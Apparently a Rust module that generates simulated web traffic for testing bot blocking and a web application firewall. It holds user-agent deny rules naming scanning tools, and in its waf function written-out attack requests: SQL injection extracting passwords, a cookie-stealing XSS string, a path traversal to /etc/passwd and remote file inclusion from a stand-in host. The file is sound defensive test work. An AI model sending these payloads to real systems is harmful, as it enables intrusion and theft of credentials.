//! What keeps programs out: lists of agents, attack signatures, challenges.

use super::draft::{Draft, Place};
use crate::scenario::{LogFormat, Reaction};

const AGENTS: [(&str, &str); 5] = [
    ("GPTBot", "gptbot"),
    ("Bytespider", "bytespider"),
    ("CCBot", "ccbot"),
    ("AhrefsBot", "ahrefs"),
    ("python-requests", "requests"),
];

pub(super) fn agent_list(draft: &mut Draft) {
    listed(draft, &AGENTS);
}

/// A list that no program of another stream is on.
pub(super) fn crawlers(draft: &mut Draft) {
    listed(draft, &AGENTS[..4]);
}

/// A list pushed while the listed are there, or there from the start.
fn listed(draft: &mut Draft, agents: &[(&str, &str)]) {
    let (name, client) = *draft.random.pick(agents);
    let rule = format!("deny user_agent containing \"{name}\", \"PetalBot\"");
    let is_pushed = draft.random.happens(0.6);
    match is_pushed {
        true => draft.deny_meanwhile(rule),
        false => draft.deny(&rule),
    }
    let mut stream = draft.stream(
        "bots",
        client,
        &["/blog/post-{n}", "/products/{n}", "/category/sale"],
    );
    stream.addresses = 1 + draft.random.below(40);
    stream.calm = if is_pushed { stream.rate } else { 0.0 };
    draft.push(stream);
}

pub(super) fn agent_empty(draft: &mut Draft) {
    draft.deny("deny user_agent is \"\"");
    let mut stream = draft.stream("nameless", "none", &["/products/{n}", "/category/sale"]);
    stream.addresses = 1 + draft.random.below(40);
    draft.push(stream);
}

pub(super) fn scanner_agents(draft: &mut Draft) {
    draft.deny("deny user_agent containing \"sqlmap\", \"Nikto\", \"Nmap\"");
    let client = draft.random.pick(&["sqlmap", "nikto", "nmap"]).to_string();
    let paths = [
        "/products?id={n}",
        "/search?q={word}",
        "/login",
        "/cgi-bin/test{n}",
        "/HNAP1",
    ];
    let mut stream = draft.stream("scanner", &client, &paths);
    stream.addresses = 1 + draft.random.below(3);
    draft.push(stream);
}

pub(super) fn waf(draft: &mut Draft) {
    draft.feature("crs");
    // Its rules take milliseconds, and more words of a path decoded may not be JSON.
    draft.scenario.background = draft.scenario.background.min(2.0 * draft.pace);
    if draft.scenario.format == LogFormat::Json {
        draft.scenario.format = LogFormat::Usual;
    }
    let client = draft
        .random
        .pick(&["browser", "sqlmap", "nikto", "curl"])
        .to_string();
    let mut stream = draft.stream(
        "attacker",
        &client,
        &[
            "/search?q=%27%20UNION%20SELECT%20username,password%20FROM%20users--",
            "/products/{n}?id=1%20OR%201=1",
            "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
            "/download?file=../../../../etc/passwd",
            "/?page=http://evil.example/shell.txt",
            "/products/{n}",
            "/about",
        ],
    );
    stream.addresses = 1 + draft.random.below(30);
    draft.push(stream);
}

/// A page whose script sets a cookie has to have been seen: none of the spike's callers runs scripts.
pub(super) fn challenge(draft: &mut Draft) {
    draft.place = Place::Whole;
    draft.feature("challenge");
    let mut stream = draft.stream(
        "distributed",
        "browser",
        &["/products/{n}", "/search?q={word}"],
    );
    stream.addresses = 300 + draft.random.below(2500);
    draft.others(&stream, |others| {
        others.headers = vec!["Cookie: clearance=1f2e3d4c5b6a".to_string()];
        others.addresses = 120;
        others.rate *= 2.0;
    });
    draft.push(stream);
}

pub(super) fn distributed_bots(draft: &mut Draft) {
    let agent = "Mozilla/5.0 (Windows NT 6.1; rv:52.0) Gecko/20100101 Firefox/52.0";
    draft.deny("deny user_agent containing \"Firefox/52.0\"");
    let mut stream = draft.stream("botnet", agent, &["/login", "/products/{n}", "/cart"]);
    stream.addresses = 800 + draft.random.below(3000);
    stream.denied = Reaction::Ignore;
    draft.push(stream);
}
